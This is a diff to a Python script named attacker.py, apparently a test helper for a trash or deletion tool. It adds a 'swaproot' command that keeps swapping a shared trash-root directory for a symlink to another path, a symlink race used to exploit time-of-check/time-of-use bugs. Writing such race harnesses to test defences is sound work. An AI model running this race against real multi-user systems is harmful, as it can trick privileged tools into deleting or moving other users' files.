@@ -5,6 +5,11 @@
 fills THEIRDIR with FILES files and a subdirectory `sub`, says "ready" on stdout,
 then keeps swapping `sub` for a symlink to VICTIM and back, pausing DELAY_US between
 swaps, until STOPFILE exists or THEIRDIR is gone.
+
+    python attacker.py swaproot ROOT THEIRS STOPFILE
+
+says "ready", then keeps swapping the directory ROOT (someone's trash root, in a
+topdir anyone may write) for a symlink to THEIRS and back, until STOPFILE exists.
 """
 
 import os
@@ -38,8 +43,26 @@ def swap(theirdir, victim, files, delay_us, stopfile):
                 pass
 
 
+def swaproot(root, theirs, stopfile):
+    print("ready", flush=True)
+    away = root + ".away"
+    deadline = time.monotonic() + 60
+    while not os.path.exists(stopfile) and time.monotonic() < deadline:
+        try:
+            if os.path.isdir(root) and not os.path.islink(root):
+                os.rename(root, away)
+                os.symlink(theirs, root)
+            else:
+                os.unlink(root)
+                os.rename(away, root)
+        except OSError:
+            pass
+
+
 if __name__ == "__main__":
     command, *args = sys.argv[1:]
     if command == "swap":
         theirdir, victim, files, delay, stopfile = args
         swap(theirdir, victim, int(files), int(delay), stopfile)
+    elif command == "swaproot":
+        swaproot(*args)
